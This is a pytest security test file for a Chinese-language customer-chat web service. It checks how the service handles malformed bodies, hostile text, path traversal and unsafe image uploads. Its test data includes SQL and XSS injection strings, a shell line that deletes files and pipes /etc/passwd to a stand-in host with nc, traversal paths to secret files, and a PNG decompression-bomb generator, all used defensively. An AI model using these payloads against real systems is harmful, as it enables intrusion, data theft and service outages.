"""What comes in that should not: refused in Chinese that helps, or kept as plain text; never executed, never in the log."""

import io
import json
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from PIL import Image

from tests.web.people import Site, Visitor, assert_problem, new_key

JSON = {"Content-Type": "application/json"}


@pytest.fixture
def bystander(site: Site) -> Iterator[Visitor]:
    """Another talk, which must look the same afterwards."""
    visitor = site.visitor()
    before = visitor.look()
    yield visitor
    assert visitor.look() == before


def sends(visitor: Visitor, body: bytes, path: str = "/messages", **headers: str) -> httpx.Response:
    """A POST of just these bytes."""
    return visitor.http.post(visitor.prefix + path, content=body, headers={**JSON, **headers})


def unharmed(visitor: Visitor) -> None:
    """The talk has only its greeting, and still works."""
    assert [m["sender"] for m in visitor.lines()] == ["bot"]
    assert visitor.says("还能用吗还能用").status_code == 202


# Bodies


@pytest.mark.parametrize("text", ["", " ", "\n\r\t", "\u3000", "\0", "\u200b\u200e", "\u202e", "\ud800", "\ufeff"])
def test_an_empty_message_is_invalid(site: Site, bystander: Visitor, text: str) -> None:
    visitor = site.visitor()
    assert_problem(visitor.says(text), 422)
    unharmed(visitor)


def test_a_message_of_the_allowed_length_is_kept_whole_and_one_more_is_too_large(site: Site) -> None:
    visitor = site.visitor()
    assert visitor.says("长" * 2000).status_code == 202
    assert visitor.lines()[1]["text"] == "长" * 2000
    assert "2000" in assert_problem(visitor.says("长" * 2001), 413)["detail"]


@pytest.mark.parametrize("size", [100_000, 10_000_000])
def test_a_body_that_is_too_large_is_refused_and_the_connection_goes_on(
    site: Site, bystander: Visitor, size: int
) -> None:
    visitor = site.visitor()
    assert_problem(visitor.says("大" * (size // 3)), 413)
    assert_problem(sends(visitor, b"x" * size), 413)
    assert_problem(sends(visitor, b"x" * size, "/rating"), 413)
    unharmed(visitor)


def test_a_large_body_without_a_token_is_answered_too(site: Site) -> None:
    visitor = site.visitor()
    assert_problem(sends(visitor, b"x" * 5_000_000, Authorization="Bearer wrong"), 401)


def test_a_body_in_chunks_is_measured_too(site: Site) -> None:
    visitor = site.visitor()
    refused = visitor.http.post(visitor.prefix + "/messages", content=(b"x" * 10_000 for _ in range(200)), headers=JSON)
    assert_problem(refused, 413)
    unharmed(visitor)


NO_OBJECTS = {
    "binary": bytes(range(256)),
    "broken": b'{"client_message_id": "a", "text": "b"',
    "half a character": b'{"client_message_id": "a", "text": "\xe4\xbd"}',
    "GBK": '{"client_message_id": "a", "text": "你好"}'.encode("gbk"),
    "UTF-16": '{"client_message_id": "a", "text": "b"}'.encode("utf-16"),
    "a list": b'[{"client_message_id": "a", "text": "b"}]',
    "a string": b'"text"',
    "a number": b"42",
    "null": b"null",
    "single quotes": b"{'client_message_id': 'a', 'text': 'b'}",
    "endless brackets": b"[" * 50_000,
    "endless objects": b'{"a":' * 10_000,
    "a number of 5000 digits": b'{"client_message_id": "a", "text": ' + b"9" * 5000 + b"}",
    "a comment": b'{"client_message_id": "a", /* x */ "text": "b"}',
    "XML": b"<text>b</text>",
}


@pytest.mark.parametrize("what", NO_OBJECTS)
def test_a_body_that_is_no_json_object_is_malformed(site: Site, what: str) -> None:
    visitor = site.visitor()
    for path in ("/messages", "/rating", "/handoff", "/read"):
        assert_problem(sends(visitor, NO_OBJECTS[what], path), 400)
    for path in ("/api/v1/conversations", "/api/v1/agent/session"):
        assert_problem(visitor.http.post(site.url + path, content=NO_OBJECTS[what], headers=JSON), 400)
    unharmed(visitor)


@pytest.mark.parametrize(
    "kind",
    ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", ""],
)
def test_another_content_type_is_refused_with_the_right_one_named(site: Site, kind: str) -> None:
    visitor = site.visitor()
    body = json.dumps({"client_message_id": "a", "text": "b"}).encode()
    refused = sends(visitor, body, **{"Content-Type": kind})
    assert "application/json" in assert_problem(refused, 415)["detail"]
    unharmed(visitor)


def test_a_content_type_with_a_charset_is_json(site: Site) -> None:
    visitor = site.visitor()
    body = json.dumps({"client_message_id": "a", "text": "带字符集的请求"}, ensure_ascii=False).encode()
    assert sends(visitor, body, **{"Content-Type": "Application/JSON; charset=UTF-8"}).status_code == 202


@pytest.mark.parametrize(
    ("body", "fields"),
    [
        ({}, ["client_message_id", "text"]),
        ({"text": "没有编号"}, ["client_message_id"]),
        ({"client_message_id": "a"}, ["text"]),
        ({"client_message_id": "", "text": "空编号"}, ["client_message_id"]),
        ({"client_message_id": "a" * 81, "text": "编号太长"}, ["client_message_id"]),
        ({"client_message_id": "a\0b", "text": "编号有空字符"}, ["client_message_id"]),
        ({"client_message_id": "\udc80", "text": "编号有半个字"}, ["client_message_id"]),
        ({"client_message_id": 5, "text": "编号是数字"}, ["client_message_id"]),
        ({"client_message_id": "a", "text": 5}, ["text"]),
        ({"client_message_id": "a", "text": None}, ["text"]),
        ({"client_message_id": "a", "text": ["b"]}, ["text"]),
        ({"client_message_id": "a", "text": {"b": "c"}}, ["text"]),
        ({"client_message_id": ["a"], "text": True}, ["client_message_id", "text"]),
    ],
)
def test_a_wrong_value_is_invalid_and_named(site: Site, body: dict[str, Any], fields: list[str]) -> None:
    visitor = site.visitor()
    assert assert_problem(visitor.post("/messages", body), 422)["fields"] == fields
    unharmed(visitor)


def test_what_is_not_asked_for_is_left_out(site: Site) -> None:
    visitor = site.visitor()
    body = {"client_message_id": "a", "text": "多带了字段", "sender": "agent", "kind": "note", "seq": 99, "agent_id": 1}
    assert visitor.post("/messages", body).json() == {"seq": 2}
    line = visitor.lines()[1]
    assert (line["sender"], line["kind"]) == ("customer", "text")


@pytest.mark.parametrize(
    "body",
    [
        {"visitor_id": "\ud800"},
        {"visitor_id": "a\0"},
        {"visitor_id": "x" * 101},
        {"visitor_id": 5},
        {"customer_token": "\ud800"},
        {"customer_token": ["x"]},
        {"channel": None},
    ],
)
def test_a_talk_is_not_opened_with_values_nobody_can_keep(site: Site, body: dict[str, Any]) -> None:
    assert assert_problem(site.caller().post("/api/v1/conversations", body), 422)["fields"] == list(body)


@pytest.mark.parametrize(
    "body",
    [
        {"name": "a\ud800", "password": "12345678"},
        {"name": "a", "password": "\ud800" * 8},
        {"name": "a\0", "password": "12345678"},
        {"name": "a" * 41, "password": "12345678"},
        {"name": "a", "password": "x" * 201},
        {"name": {"$ne": ""}, "password": {"$ne": ""}},
        {},
    ],
)
def test_nobody_signs_in_with_rubbish(site: Site, body: dict[str, Any]) -> None:
    assert_problem(site.caller().post("/api/v1/agent/session", body), 422)


def test_sql_in_a_name_signs_nobody_in(site: Site) -> None:
    for name in ("' OR '1'='1", "admin'--", '"; DROP TABLE agents; --'):
        assert_problem(site.caller().post("/api/v1/agent/session", {"name": name, "password": "x" * 8}), 401)
    assert site.agent().get("/me").status_code == 200


@pytest.mark.parametrize("body", [{"reason": 5}, {"reason": "长" * 201}, {"reason": ["x"]}])
def test_a_reason_that_is_no_short_text_is_invalid_and_queues_nobody(site: Site, body: dict[str, Any]) -> None:
    visitor = site.visitor()
    assert_problem(visitor.post("/handoff", body), 422)
    assert visitor.look()["state"] == "bot"


def test_the_text_of_a_reason_and_a_comment_is_cleaned(site: Site) -> None:
    visitor, agent = site.visitor(), site.agent()
    assert visitor.post("/handoff", {"reason": "坏字\ud800符\0和\u202e方向"}).status_code == 202
    assert agent.takes(visitor).sees(visitor)["handover"]["reason_label"].endswith("坏字符和方向")
    assert visitor.post("/rating", {"score": 3, "comment": "一般\udfff\0"}).status_code == 200


def test_a_body_that_is_cut_off_stores_nothing(site: Site, bystander: Visitor) -> None:
    visitor = site.visitor()
    where = urlsplit(site.url)
    body = json.dumps({"client_message_id": "cut", "text": "只发了一半的话"}).encode()
    with socket.create_connection((where.hostname, where.port), timeout=20) as wire:
        head = (
            f"POST {urlsplit(visitor.prefix).path}/messages HTTP/1.1\r\nHost: {where.netloc}\r\n"
            f"Authorization: Bearer {visitor.token}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body) + 100}\r\n\r\n"
        )
        wire.sendall(head.encode() + body)
        wire.shutdown(socket.SHUT_WR)
        answer = b"".join(iter(lambda: wire.recv(65536), b""))
    assert answer.split(b" ", 2)[1:2] in ([b"400"], []), "a refusal, or nothing at all"
    unharmed(visitor)


# Texts

TEXTS = {
    "SQL": "'; DROP TABLE messages; -- ",
    "script": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "template": "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} %s %(x)s {0}",
    "shell": "$(rm -rf /) `id` ; cat /etc/passwd | nc evil 1 &",
    "brain's language": '/request_human{"order_number": "1"}',
    "log forging": "正常一行\n[2026-11-22] [ERROR] 伪造的一行日志",
    "emoji": "😀👨‍👩‍👧‍👦🇨🇳❤️",
    "Arabic": "أين طلبي؟ شكرا جزيلا",
    "Hebrew": "איפה ההזמנה שלי בבקשה",
    "Russian": "Где мой заказ, пожалуйста",
    "Thai": "คำสั่งซื้อของฉันอยู่ที่ไหน",
    "Korean": "제 주문은 어디에 있나요",
    "Tibetan": "ང་ཡི་ཉོ་ཆ་ག་པར་ཡོད།",
    "rare Chinese": "𠮷野家𪚥 我要查订单",
    "combining": "Z̷̢̧a̴l̸g̵o̶ 你好",
    "paths": "../../../../etc/passwd C:\\Windows\\win.ini",
    "numbers": "1e999 -0 NaN Infinity 0x41 ١٢٣",
}


@pytest.mark.parametrize("what", [name for name in TEXTS if name != "emoji"])
def test_a_text_is_kept_and_shown_as_it_was_written(site: Site, bystander: Visitor, what: str) -> None:
    visitor = site.visitor()
    seq = visitor.said(TEXTS[what])
    told = visitor.wait_for(lambda t: t["messages"][-1]["sender"] == "bot", seq - 1)["messages"]
    assert told[0]["text"] == TEXTS[what].strip()
    assert len(told) == 2, "one answer"
    assert visitor.look()["state"] == "bot"


def test_the_brains_own_language_is_not_spoken_to_it_by_customers(site: Site) -> None:
    visitor = site.visitor()
    visitor.answer(visitor.said("/request_human"))
    assert site.brain.asked(visitor.id) == ["request_human"]


def test_a_message_of_emoji_only_is_answered(site: Site) -> None:
    visitor = site.visitor()
    assert visitor.answer(visitor.said(TEXTS["emoji"])).startswith("收到：")


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("你\0好呀", "你好呀"),
        ("半个表情\ud83d", "半个表情"),
        ("\udc00前半个", "前半个"),
        ("订单\u202e321\u202c号", "订单321号"),
        ("\u2066隔离\u2069文字", "隔离文字"),
        ("零宽\u200b字符\ufeff们", "零宽字符们"),
        ("响铃\x07退格\x08转义\x1b[31m", "响铃退格转义[31m"),
        ("  前后空白 \r\n第二行\n ", "前后空白 \n第二行"),
    ],
)
def test_what_cannot_be_seen_is_taken_out_of_a_text(site: Site, sent: str, kept: str) -> None:
    visitor = site.visitor()
    assert visitor.says(sent).status_code == 202
    assert visitor.lines()[1]["text"] == kept


def test_html_in_a_search_is_shown_as_text(site: Site) -> None:
    page = site.caller().get("/help", q="<script>alert(1)</script>\0\u202e")
    assert page.status_code == 200
    assert "<script>alert" not in page.text


# Addresses


@pytest.mark.parametrize(
    "path",
    [
        "/static/../core/settings.py",
        "/static/..%2f..%2fcore/settings.py",
        "/static/%2e%2e/%2e%2e/core/settings.py",
        "/static//etc/passwd",
        "/static/....//....//etc/passwd",
        "/static/..\\..\\core\\settings.py",
        "/static/chat/%00.js",
        "/files/a/secrets.json",
        "/files/../secrets.json",
        "/files/%2e%2e/secrets.json",
        "/files/..%2f/secrets.json",
        "/files/a/..%2f..%2fsecrets.json",
        "/files/a/%2e%2e?s=" + "0" * 32,
        "/files/a/b.png?s=%ff%fe",
        "/files/a/%00?s=",
        "/help/%00",
        "/help/..%2f..%2fsecrets",
        "/.env",
        "/.git/config",
        "/zhike.db",
        "/api/v1/nothing",
        "/console",
    ],
)
def test_no_path_leads_out_of_what_is_served(site: Site, path: str) -> None:
    where = urlsplit(site.url)
    with socket.create_connection((where.hostname, where.port), timeout=20) as wire:
        wire.sendall(f"GET {path} HTTP/1.1\r\nHost: {where.netloc}\r\nConnection: close\r\n\r\n".encode())
        answer = b"".join(iter(lambda: wire.recv(65536), b"")).decode()
    head, _, body = answer.partition("\r\n\r\n")
    assert head.split()[1] == "404", answer
    assert "application/problem+json" in head
    assert json.loads(body)["title"] == "没有找到"
    assert "secret_key" not in answer


def test_another_method_is_refused_with_the_right_ones_named(site: Site) -> None:
    refused = site.caller().put("/api/v1/conversations", {})
    assert_problem(refused, 405)
    assert "POST" in refused.headers["Allow"]


# Pictures


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    """A picture's bytes."""
    out = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert(mode).save(out, kind, **options)
    return out.getvalue()


def uploads(visitor: Visitor, data: bytes, name: str = "a.png", key: str | None = None) -> httpx.Response:
    """Sends a picture."""
    form = {"client_message_id": key or new_key()}
    return visitor.http.post(visitor.prefix + "/images", data=form, files={"file": (name, data)})


def stored(site: Site, visitor: Visitor) -> bytes:
    """What the talk shows of the picture sent last."""
    shown = visitor.lines()[-1]
    assert (shown["kind"], shown["sender"]) == ("image", "customer")
    got = site.caller().get(shown["payload"]["url"])
    assert got.status_code == 200
    assert got.headers["Content-Type"].startswith("image/")
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    return got.content


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP", "GIF"])
def test_pictures_of_the_known_kinds_are_taken_and_shown(site: Site, kind: str) -> None:
    visitor = site.visitor().asks_for_a_person()
    assert uploads(visitor, picture(kind)).status_code == 202
    with Image.open(io.BytesIO(stored(site, visitor))) as shown:
        assert (shown.format, shown.size) == (kind, (60, 40))


@pytest.mark.parametrize("mode", ["L", "LA", "P", "RGBA", "1", "I;16"])
def test_pictures_of_every_colour_mode_are_taken(site: Site, mode: str) -> None:
    visitor = site.visitor().asks_for_a_person()
    assert uploads(visitor, picture(mode=mode)).status_code == 202
    stored(site, visitor)


def test_a_picture_of_megabytes_is_taken_and_one_over_the_limit_is_not(site: Site) -> None:
    visitor = site.visitor().asks_for_a_person()
    noise = Image.effect_noise((1400, 1400), 90)
    out = io.BytesIO()
    noise.save(out, "PNG")
    assert 1_500_000 < len(out.getvalue()) < 5 * 1024 * 1024
    assert uploads(visitor, out.getvalue()).status_code == 202
    refused = uploads(visitor, picture() + b"\0" * (5 * 1024 * 1024))
    assert_problem(refused, 413)
    assert_problem(uploads(visitor, b"x" * 10_000_000), 413)


def test_where_and_by_whom_a_picture_was_taken_is_not_kept(site: Site) -> None:
    visitor = site.visitor().asks_for_a_person()
    exif = Image.Exif()
    exif[0x010F] = "SECRETCAMERA"
    exif[0x8825] = {1: "N", 2: (30.0, 15.0, 0.0), 3: "E", 4: (120.0, 9.0, 0.0)}
    for kind, more in (("JPEG", {"comment": b"SECRETNOTE"}), ("PNG", {}), ("WEBP", {})):
        sent = picture(kind, exif=exif, **more)
        assert b"SECRETCAMERA" in sent
        uploads(visitor, sent)
        kept = stored(site, visitor)
        assert b"SECRET" not in kept
        with Image.open(io.BytesIO(kept)) as shown:
            assert dict(shown.getexif()) == {}
    uploads(visitor, picture("GIF", comment=b"SECRETNOTE"))
    assert b"SECRET" not in stored(site, visitor)


def test_a_photo_taken_with_the_phone_turned_is_shown_upright(site: Site) -> None:
    visitor = site.visitor().asks_for_a_person()
    exif = Image.Exif()
    exif[0x0112] = 6  # a quarter turn
    uploads(visitor, picture("JPEG", (60, 40), exif=exif))
    with Image.open(io.BytesIO(stored(site, visitor))) as shown:
        assert shown.size == (40, 60)


def test_an_animated_gif_stays_animated(site: Site) -> None:
    visitor = site.visitor().asks_for_a_person()
    frames = [Image.new("P", (20, 20), n) for n in range(4)]
    for frame in frames:
        frame.putpalette([n for n in range(256) for _ in range(3)])
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0)
    uploads(visitor, out.getvalue())
    with Image.open(io.BytesIO(stored(site, visitor))) as shown:
        assert shown.n_frames == 4


def bomb(width: int, height: int) -> bytes:
    """A small PNG that says it is huge."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 10**6)) + chunk(b"IEND", b"")
    )


def many_frames() -> bytes:
    """A small GIF of very many large frames."""
    out = io.BytesIO()
    frames = [Image.new("P", (2000, 2000), n % 2) for n in range(12)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=20)
    return out.getvalue()


NO_PICTURES: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "text": lambda: b"hello",
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "html": lambda: b"<html><script>alert(1)</script></html>",
    "a program": lambda: b"MZ\x90\0" + b"\0" * 500,
    "a PNG cut off": lambda: picture()[:120],
    "a JPEG cut off": lambda: picture("JPEG", (600, 400))[:900],
    "a GIF cut off": lambda: picture("GIF")[:40],
    "a PNG with broken parts": lambda: picture()[:60] + b"\xff" * 200,
    "only the beginning of a PNG": lambda: b"\x89PNG\r\n\x1a\n",
    "a TIFF": lambda: picture("TIFF"),
    "a BMP": lambda: picture("BMP"),
    "40,000 × 40,000 dots": lambda: bomb(40_000, 40_000),
    "2^31 dots wide": lambda: bomb(2**31 - 1, 1),
    "no dots": lambda: bomb(0, 0),
    "very many frames": many_frames,
}


@pytest.mark.parametrize("what", NO_PICTURES)
def test_what_is_no_picture_is_refused_quickly_whatever_it_is_called(site: Site, bystander: Visitor, what: str) -> None:
    visitor = site.visitor()
    sent = NO_PICTURES[what]()
    begun = time.monotonic()
    assert_problem(uploads(visitor, sent, "photo.png"), 422)
    assert time.monotonic() - begun < 10
    folder = site.stack.folder / "uploads" / visitor.id
    assert not folder.exists() or not list(folder.iterdir())
    unharmed(visitor)


def test_the_same_picture_again_is_one_line_and_one_file(site: Site) -> None:
    visitor = site.visitor().asks_for_a_person()
    answers = [uploads(visitor, picture(), key="photo-1") for _ in range(3)]
    assert [a.status_code for a in answers] == [202, 200, 200]
    assert len({a.json()["seq"] for a in answers}) == 1
    assert len(list((site.stack.folder / "uploads" / visitor.id).iterdir())) == 1
    stored(site, visitor)


def test_a_form_without_a_file_or_an_id_is_invalid_and_json_is_no_form(site: Site) -> None:
    visitor = site.visitor()
    url = visitor.prefix + "/images"
    no_file = visitor.http.post(url, data={"client_message_id": "a"}, files={"other": b"x"})
    assert assert_problem(no_file, 422)["fields"] == ["file"]
    no_key = visitor.http.post(url, files={"file": ("a.png", picture())})
    assert assert_problem(no_key, 422)["fields"] == ["client_message_id"]
    bad_key = visitor.http.post(url, data={"client_message_id": "a\0"}, files={"file": ("a.png", picture())})
    assert assert_problem(bad_key, 422)["fields"] == ["client_message_id"]
    assert_problem(visitor.post("/images", {"client_message_id": "a", "file": "x"}), 415)
    unharmed(visitor)


def test_a_name_with_a_path_in_it_writes_nowhere_else(site: Site) -> None:
    visitor = site.visitor().asks_for_a_person()
    before = {p for p in site.stack.folder.iterdir() if p.name != "uploads"}
    assert uploads(visitor, picture(), "../../../evil.png").status_code == 202
    assert {p for p in site.stack.folder.iterdir() if p.name != "uploads"} == before
    assert "evil" not in visitor.lines()[-1]["payload"]["url"]


def test_a_picture_is_shown_only_under_its_own_signed_address(site: Site) -> None:
    one, other = site.visitor().asks_for_a_person(), site.visitor().asks_for_a_person()
    for visitor in (one, other):
        uploads(visitor, picture())
    url, foreign = (v.lines()[-1]["payload"]["url"] for v in (one, other))
    path, _, signature = url.partition("?s=")
    caller = site.caller()
    for wrong in (path, f"{path}?s=", f"{path}?s={signature[:-1]}", f"{path}?s={foreign.partition('?s=')[2]}"):
        assert_problem(caller.get(wrong), 404)
    assert "private" in caller.get(url).headers["Cache-Control"]
